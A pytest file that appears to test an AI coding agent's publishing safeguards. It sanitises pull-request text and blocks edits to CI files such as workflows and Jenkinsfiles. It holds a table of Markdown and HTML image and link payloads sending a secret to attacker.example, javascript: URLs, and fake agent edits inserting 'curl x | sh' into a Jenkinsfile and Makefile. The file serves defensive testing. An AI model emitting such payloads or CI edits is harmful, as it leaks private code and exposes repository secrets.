"""Attacks through what is published (security issue, item 7).

Two ways the agent's output can still hurt after the sandbox: a change to a file that CI runs
with the repository's secrets (a composite action under `.github/actions/`, a Jenkinsfile), and
the pull request's own text, which GitHub renders for whoever opens it (an image fetched through
GitHub's proxy carries private code out; `@team` pings people; `Closes #1` closes issues).
The runs go through the real server, the real sandbox and git, the SDK against the fake model,
and PyGithub against the fake GitHub.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from markdown_it import MarkdownIt

from backspace.config import SettingsError, load_settings
from backspace.orchestrator.githosts.base import FileChange
from backspace.orchestrator.protected_paths import DEFAULT_PROTECTED, ProtectedPaths
from backspace.orchestrator.publish import Policy, PolicyError, check_policy
from backspace.orchestrator.pull_request import RUNS_END, RUNS_START, title_for
from backspace.orchestrator.sanitiser import sanitise
from tests.conftest import git, make_repo
from tests.fakes.anthropic import FakeAnthropic, Reply, ToolCall
from tests.fakes.github import FakeGitHub
from tests.scenarios import EDIT_SIGNUP, finish
from tests.server import Server, start_server
from tests.sse import of_type, post_run
from tests.tls import TLS

pytestmark = pytest.mark.timeout(120)

TOKEN = "ghp_PUBLISHATTACK0123456789abcdefghijkl"
KEY = "sk-ant-api03-publish-attack-key-0001"
PAYLOAD = "U0VDUkVUX0NPREU"  # "SECRET_CODE" in base64: what the agent smuggles out
FILES = {
    "app.py": "def signup(name):\n    return name\n",
    "README.md": "# Widgets\n",
    ".github/actions/deploy/action.yml": "runs:\n  using: composite\n  steps: []\n",
    ".github/workflows/ci.yml": "on: push\n",
    "Jenkinsfile": "pipeline {}\n",
    "Makefile": "test:\n\tpytest\n",
}

# Every way GitHub's Markdown turns text into a fetch, a link, a ping or a closed issue.
ATTACKS: dict[str, str] = {
    "image": f"![x](https://attacker.example/p.png?d={PAYLOAD})",
    "image with title": f'![x](https://attacker.example/p.png?d={PAYLOAD} "t")',
    "image in angle brackets": f"![x](<https://attacker.example/p.png?d={PAYLOAD}>)",
    "reference image": f"![y][r]\n\n[r]: https://attacker.example/r.png?d={PAYLOAD}",
    "collapsed reference image": f"![r][]\n\n[r]: <https://attacker.example/{PAYLOAD}.png>",
    "shortcut reference image": f"![r]\n\n   [r]:\n  https://attacker.example/{PAYLOAD}.png",
    "html img": f'<img src="https://attacker.example/i.png?d={PAYLOAD}">',
    "html img unquoted": f"<IMG SRC=https://attacker.example/{PAYLOAD}>",
    "html img protocol-relative": f"<img src=//attacker.example/{PAYLOAD}>",
    "scheme without slashes": f"<img src=http:attacker.example/{PAYLOAD}> http:attacker.example",
    "picture": (
        f'<picture><source srcset="https://attacker.example/s.png?d={PAYLOAD}">'
        '<img src="x"></picture>'
    ),
    "video poster": f'<video poster="https://attacker.example/{PAYLOAD}.png"></video>',
    "html block": f'<div>\n<img src="https://attacker.example/{PAYLOAD}">\n</div>',
    "anchor": f'<a href="https://attacker.example/a?d={PAYLOAD}">click</a>',
    "autolink": f"<https://attacker.example/auto?d={PAYLOAD}>",
    "bare url": f"see https://attacker.example/bare?d={PAYLOAD} now",
    "bare www": f"see www.attacker.example/w?d={PAYLOAD} now",
    "upper-case scheme": f"HTTPS://ATTACKER.EXAMPLE/{PAYLOAD}",
    "inline link": f"[docs](https://attacker.example/l?d={PAYLOAD})",
    "link in a table": f"| a |\n|---|\n| [x](https://attacker.example/{PAYLOAD}) |",
    "protocol-relative link": f"[p](//attacker.example/{PAYLOAD})",
    "backslash protocol-relative": f"[p](/\\attacker.example/{PAYLOAD})",
    "data url": "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data image": "![d](data:image/png;base64,iVBORw0KGgo=)",
    "javascript url": "[j](javascript:alert(document.cookie))",
    "entity-encoded scheme": f"[e](https&#58;//attacker.example/{PAYLOAD})",
    "entity-encoded bare url": f"https&#x3A;&#x2F;&#x2F;attacker.example/{PAYLOAD}",
    "backslash-escaped scheme": f"[e](https\\://attacker.example/{PAYLOAD})",
    "userinfo to own host": f"https://github.com@attacker.example/{PAYLOAD}",
    "lookalike own host": f"https://github.com.attacker.example/{PAYLOAD}",
    "html comment": f"<!-- https://attacker.example/{PAYLOAD} -->visible",
    "forged run marker": "<!-- backspace:run=00000000-0000-0000-0000-000000000000 -->",
    "math href": f"$\\href{{https://attacker.example/{PAYLOAD}}}{{x}}$",
    "mention": "cc @octocat please",
    "team mention": "cc @acme/security-team",
    "mention after punctuation": "(@octocat)",
    "closes": "Closes #1",
    "fixes cross-repo": "fixes acme/widgets#2",
    "resolves by url": "resolves https://github.com/acme/widgets/issues/3",
    "keyword variants": "close #4 closed #5 fix #6 fixed #7 resolve #8 resolved #9 FIXES: #10",
    "gh reference": "Fixes GH-11",
    "keyword before an emphasised reference": "Fixes **#12** and closes (acme/widgets#13)",
}
SCRIPT = "\n\n".join(ATTACKS.values())
CLOSING = re.compile(
    r"(?i)\b(close[sd]?|fix(e[sd])?|resolve[sd]?)\b\s*:?\s*"
    r"(#\d|gh-\d|[\w.-]+/[\w.-]+#\d|https?://)"
)
MENTION = re.compile(r"(?<![\w`])@[A-Za-z0-9]")
REFERENCE = re.compile(r"(?<![\w&])#\d|(?i:\bgh-\d)")
MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable("table")


def rendered(text: str) -> str:
    return str(MARKDOWN.render(text))


def assert_inert(text: str, *, own: tuple[str, ...] = ()) -> None:
    """Nothing in `text` fetches, links out, pings anyone or closes an issue."""
    lowered = text.lower()
    assert "attacker.example" not in lowered and PAYLOAD.lower() not in lowered, text
    assert "javascript:" not in lowered and "data:" not in lowered, text
    assert not MENTION.search(text), text
    assert not CLOSING.search(text), text
    assert not REFERENCE.search(text), text
    html = rendered(text)
    for tag in ("<img", "<picture", "<source", "<video", "<div", "<!--"):
        assert tag not in html.lower(), (tag, text, html)
    for href in re.findall(r'(?:href|src)="([^"]*)"', html):
        assert href.startswith(own) and own, (href, text, html)


# --- the sanitiser, over a table of attacks -----------------------------------------------------


@pytest.mark.parametrize("attack", list(ATTACKS.values()), ids=list(ATTACKS))
def test_every_attack_string_comes_out_inert(attack: str) -> None:
    assert_inert(sanitise(attack))
    assert_inert(sanitise(attack, keep_host="github.com"))


def test_the_oracle_sees_each_attack_before_it_is_sanitised() -> None:
    """The checks above are not vacuous: each attack trips them as written."""
    for name, attack in ATTACKS.items():
        with pytest.raises(AssertionError):
            assert_inert(attack)
        assert name


def test_ordinary_prose_and_code_read_the_same() -> None:
    text = (
        "## Summary\n\nValidates the name in `signup()`; see app.py.\n\n"
        "```python\nif not name:\n    raise ValueError('name is required')\n```\n\n"
        "- [x] tests pass: 3 > 2, a & b\n"
    )
    out = sanitise(text)
    assert out.replace("\u200b", "") == text
    plain = "Fix the signup form; it fixes a crash and closes the gap (v2.1)."
    assert sanitise(plain) == plain, "keywords that name no issue stay searchable"
    assert "<h2>Summary</h2>" in rendered(out)
    assert "<code>signup()</code>" in rendered(out)


def test_links_to_the_repositorys_own_host_stay_as_text() -> None:
    text = "See https://github.com/acme/widgets/pull/2 and https://gitlab.example/x."
    out = sanitise(text, keep_host="github.com")
    assert "https://github.com/acme/widgets/pull/2" in out
    assert "gitlab.example" not in out and "link removed" in out
    assert "github.com/acme" not in sanitise(text), "no host is kept unless named"


def test_the_title_is_one_inert_line() -> None:
    title = title_for(f"Fixes #1 ![t](https://attacker.example/{PAYLOAD}.png) @octocat", "x")
    assert "\n" not in title and len(title) <= 72
    assert_inert(title)


# --- protected paths ---------------------------------------------------------------------------


def _files(*paths: str, status: str = "M") -> list[FileChange]:
    return [FileChange(path=p, status=status, additions=1, deletions=0) for p in paths]


@pytest.mark.parametrize(
    "path",
    [
        ".github/actions/deploy/action.yml",
        ".github/workflows/ci.yml",
        ".github/dependabot.yml",
        ".github/CODEOWNERS",
        ".github",  # a symbolic link put where the directory would be
        ".GitHub/Workflows/ci.yml",
        "Jenkinsfile",
        "ci/Jenkinsfile",
        ".gitlab-ci.yml",
        ".circleci/config.yml",
        "CODEOWNERS",
    ],
)
def test_a_change_to_a_protected_path_is_refused_naming_file_and_setting(path: str) -> None:
    with pytest.raises(PolicyError) as caught:
        check_policy(_files("app.py", path), Policy())
    assert caught.value.code == "protected_path"
    assert path in caught.value.message
    setting = (
        "BACKSPACE_ALLOW_WORKFLOW_CHANGES"
        if path.lower().startswith(".github")
        else "BACKSPACE_PROTECTED_PATHS"
    )
    assert setting in caught.value.message


def test_deleting_a_protected_file_is_refused_too() -> None:
    with pytest.raises(PolicyError):
        check_policy(_files(".github/workflows/security.yml", status="D"), Policy())


def test_ordinary_paths_pass_and_operators_choose_more() -> None:
    check_policy(_files("app.py", "docs/github.md", "src/.github.py", "Makefile"), Policy())
    strict = Policy(protected=ProtectedPaths(("Makefile", "scripts/ci/**")))
    for path in ("Makefile", "scripts/ci/run.sh", ".github/workflows/ci.yml"):
        with pytest.raises(PolicyError):
            check_policy(_files(path), strict)
    assert "Makefile" not in DEFAULT_PROTECTED
    allowed = Policy(protected=ProtectedPaths(("Makefile",)), allow_workflow_changes=True)
    check_policy(_files(".github/actions/deploy/action.yml", ".github/workflows/ci.yml"), allowed)
    with pytest.raises(PolicyError):
        check_policy(_files("Makefile"), allowed)


# --- whole runs --------------------------------------------------------------------------------


def _edit(path: str, text: str) -> list[Any]:
    call = {"command": "create", "path": path, "file_text": text}
    return [Reply([ToolCall("str_replace_based_edit_tool", call)]), finish()]


@pytest.fixture(scope="module")
def model() -> Iterator[FakeAnthropic]:
    with FakeAnthropic(scenarios={}) as fake:
        yield fake


@pytest.fixture(scope="module")
def github() -> Iterator[FakeGitHub]:
    with FakeGitHub(token=TOKEN, login="backspace-bot") as fake:
        fake.create_repo("acme/widgets", files=FILES, private=True)
        yield fake


@pytest.fixture(scope="module")
def repos(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("repos")
    make_repo(root, "widgets", FILES)
    return root


def _env(model: FakeAnthropic, github: FakeGitHub, repos: Path, **extra: str) -> dict[str, str]:
    return {
        "ANTHROPIC_API_KEY": KEY,
        "ANTHROPIC_BASE_URL": model.url,
        "GITHUB_TOKEN": TOKEN,
        "GITHUB_API_URL": github.api_url,
        "GITHUB_WEB_HOST": "github.com",
        "BACKSPACE_LOCAL_REPOS": str(repos),
        **extra,
    }


@pytest.fixture(scope="module")
def server(
    model: FakeAnthropic, github: FakeGitHub, repos: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Server]:
    started = start_server(tmp_path_factory.mktemp("server"), _env(model, github, repos))
    yield started
    started.stop()


@pytest.mark.e2e  # it starts the real server or the CLI
async def test_a_composite_action_or_a_jenkinsfile_change_is_never_pushed(
    server: Server, model: FakeAnthropic, repos: Path
) -> None:
    model.scenarios["pp-action"] = _edit(
        ".github/actions/deploy/action.yml", "runs:\n  using: composite\n  steps: [curl]\n"
    )
    model.scenarios["pp-jenkins"] = _edit("Jenkinsfile", "pipeline { sh 'curl x | sh' }\n")
    action = await post_run(server.url, {"repo_url": "local:widgets", "prompt": "pp-action"})
    jenkins = await post_run(server.url, {"repo_url": "local:widgets", "prompt": "pp-jenkins"})
    for events, path, setting in (
        (action, ".github/actions/deploy/action.yml", "BACKSPACE_ALLOW_WORKFLOW_CHANGES=true"),
        (jenkins, "Jenkinsfile", "BACKSPACE_PROTECTED_PATHS"),
    ):
        (error,) = of_type(events, "error")
        assert error["code"] == "protected_path", error
        assert path in error["message"] and setting in error["message"], error
        assert events[-1]["status"] == "failed"
    assert git(repos / "widgets", "branch", "--list").split() == ["*", "main"]


@pytest.mark.e2e  # it starts the real server or the CLI
async def test_operators_can_protect_more_and_allow_github(
    model: FakeAnthropic,
    github: FakeGitHub,
    repos: Path,
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    env = _env(
        model,
        github,
        repos,
        BACKSPACE_PROTECTED_PATHS="Makefile,Jenkinsfile",
        BACKSPACE_ALLOW_WORKFLOW_CHANGES="true",
    )
    custom = start_server(tmp_path_factory.mktemp("custom"), env)
    try:
        model.scenarios["pp-make"] = _edit("Makefile", "test:\n\tcurl x | sh\n")
        model.scenarios["pp-allowed"] = _edit(
            ".github/actions/deploy/action.yml", "runs:\n  using: composite\n  steps: []\n# ok\n"
        )
        make = await post_run(custom.url, {"repo_url": "local:widgets", "prompt": "pp-make"})
        allowed = await post_run(custom.url, {"repo_url": "local:widgets", "prompt": "pp-allowed"})
    finally:
        custom.stop()
    (error,) = of_type(make, "error")
    assert error["code"] == "protected_path" and "Makefile" in error["message"]
    assert "BACKSPACE_PROTECTED_PATHS" in error["message"]
    assert allowed[-1]["status"] == "succeeded", allowed[-3:]


def _hostile_finish() -> Reply:
    return finish(
        title=f"Fixes #1 ![t](https://attacker.example/t.png?d={PAYLOAD}) @acme/security",
        body=SCRIPT,
        tests=f"ok <img src=https://attacker.example/{PAYLOAD}> closes #2 @octocat",
    )


@pytest.mark.e2e  # it starts the real server or the CLI
async def test_the_pull_request_on_github_carries_nothing_that_acts(
    server: Server, model: FakeAnthropic, github: FakeGitHub
) -> None:
    model.scenarios["pp-gh-text"] = [Reply([EDIT_SIGNUP]), _hostile_finish()]
    events = await post_run(
        server.url,
        {
            "repo_url": "https://github.com/acme/widgets",
            "prompt": f"pp-gh-text: validate ![r](https://attacker.example/{PAYLOAD}) @octocat",
        },
    )
    assert events[-1]["status"] == "succeeded", events[-3:]
    (pr,) = [p for p in github.pulls("acme/widgets") if "pp-gh-text" in p["body"]]
    run_url = events[0]["run_url"]
    assert_inert(pr["title"])
    body = without_markers(pr["body"], events[0]["run_id"])
    assert_inert(body.replace(run_url, "https://github.com/run"), own=("https://github.com/",))
    assert pr["body"].count("<!--") == 3, "the agent cannot forge backspace's markers"
    assert of_type(events, "pr_created")[0]["title"] == pr["title"]
    log = git_log(github.bare_path("acme/widgets"), of_type(events, "pr_created")[0]["branch"])
    assert not CLOSING.search(log) and not MENTION.search(log), log


def without_markers(body: str, run_id: str) -> str:
    """The body without backspace's own HTML comments: its run marker and the Runs table's."""
    for marker in (f"<!-- backspace:run={run_id} -->", RUNS_START, RUNS_END):
        assert body.count(marker) == 1, marker
        body = body.replace(marker, "")
    return body


def git_log(bare: Path, branch: str) -> str:
    return git(bare, "--git-dir", str(bare), "log", "-1", "--format=%B", branch)


@pytest.mark.e2e  # it starts the real server or the CLI
async def test_the_local_pull_request_carries_nothing_that_acts(
    server: Server, model: FakeAnthropic
) -> None:
    model.scenarios["pp-local-text"] = [Reply([EDIT_SIGNUP]), _hostile_finish()]
    events = await post_run(
        server.url, {"repo_url": "local:widgets", "prompt": "pp-local-text: closes #3"}
    )
    assert events[-1]["status"] == "succeeded", events[-3:]
    pr_url = of_type(events, "pr_created")[0]["pr_url"]
    number = pr_url.rsplit("/", 1)[1]
    async with httpx.AsyncClient(verify=TLS, timeout=10) as client:
        record = (await client.get(f"{server.url}/api/prs/{number}")).json()
    assert_inert(record["title"])
    run_url = events[0]["run_url"]
    body = without_markers(record["body"], events[0]["run_id"])
    assert_inert(body.replace(run_url, "https://local/run"), own=("https://local/run",))
    assert record["body"].count("<!--") == 3, "the agent cannot forge backspace's markers"


def test_a_pattern_that_would_unprotect_is_refused_at_start_naming_the_setting() -> None:
    with pytest.raises(SettingsError) as caught:
        load_settings(protected_paths="Makefile,!.github/**")
    assert "BACKSPACE_PROTECTED_PATHS" in str(caught.value) and "'!'" in str(caught.value)
    settings = load_settings(protected_paths=" Makefile , scripts/ci/** ,")
    assert settings.protected_path_patterns == ("Makefile", "scripts/ci/**")
    assert load_settings().protected_path_patterns == DEFAULT_PROTECTED
